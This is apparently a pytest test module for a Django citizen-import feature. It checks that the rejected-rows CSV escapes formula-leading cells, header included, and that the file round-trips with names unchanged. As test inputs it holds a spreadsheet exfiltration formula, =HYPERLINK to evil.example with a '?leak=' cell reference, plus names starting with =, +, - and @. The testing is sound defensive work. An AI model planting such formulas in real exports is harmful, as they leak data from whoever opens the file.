"""The rejected-rows CSV: every cell escaped (the file's own header too), and a round trip.

An officer opens the download in Excel. A header cell `=HYPERLINK(...)` from the uploaded file
was written as is and became a live formula; a name `Rina;=HYPERLINK(...)` became one in a
semicolon locale. And once fixed, the same file goes back in: names must come back unchanged.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from accounts.models import Role
from people import importing, services
from people.models import Citizen, ImportJob
from tests.factories.stations import StationFactory
from tests.people.helpers import HEADER, csv_bytes, mobile, upload

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
NAMES = ["=Sita Devi", f"Rina;{LINK}", "+Kiran", "-Asha", "@Meena", "'Gita", "Lalita, =1+1"]


def _row(n: int, name: str) -> list[object]:
    return [mobile(n), name, "paper form", "2026-01-15", "NEW-1", "", "", "", "remark"]


def _upload_and_run(world, content: bytes) -> ImportJob:  # type: ignore[no-untyped-def]
    job, _created = services.create_import_job(
        district=world.district, upload=upload("list.csv", content), by=world.user(Role.CYBER_CELL)
    )
    importing.run_import_job(job_id=job.pk)
    job.refresh_from_db()
    return job


def _download(client, job: ImportJob) -> str:  # type: ignore[no-untyped-def]
    response = client.get(reverse("people:import_rejected_csv", args=[job.pk]))
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.fixture
def rejected(world, login):  # type: ignore[no-untyped-def]
    """An import whose every row was refused (unknown station), and its download."""
    header = [*HEADER, LINK]
    job = _upload_and_run(world, csv_bytes([_row(n, name) for n, name in enumerate(NAMES)], header))
    assert job.rejected == len(NAMES)
    return job, _download(login(world.user(Role.CYBER_CELL)), job)


def test_the_files_own_header_cells_are_escaped(rejected) -> None:
    _job, body = rejected
    header = next(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert header[:8] == HEADER
    assert header[8] == "'" + LINK
    assert header[9:] == ["row", "reason", "reason_text"]


def test_every_text_cell_is_escaped_and_quoted(rejected) -> None:
    _job, body = rejected
    lines = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    names = [line[1] for line in lines[1:]]
    assert names == [
        "'=Sita Devi", f"'Rina;{LINK}", "'+Kiran", "'-Asha", "'@Meena", "'Gita", "'Lalita, =1+1",
    ]  # fmt: skip
    # Quoted, so Excel in a semicolon locale keeps "Rina;=HYPERLINK(...)" in one, escaped cell.
    assert '"\'Rina;=HYPERLINK(""http://evil.example' in body
    assert '"+91 ' not in body and f'"{mobile(0)}"' in body  # phones are not touched


def test_the_downloaded_file_imports_back_with_the_same_names(world, rejected) -> None:
    _job, body = rejected
    StationFactory(district=world.district, code="NEW-1")
    again = _upload_and_run(world, body.encode("utf-8"))
    assert (again.imported_created, again.rejected) == (len(NAMES), 0)
    names = dict(Citizen.objects.values_list("phone", "name"))
    assert [names[f"+91{mobile(n)}"] for n in range(len(NAMES))] == NAMES
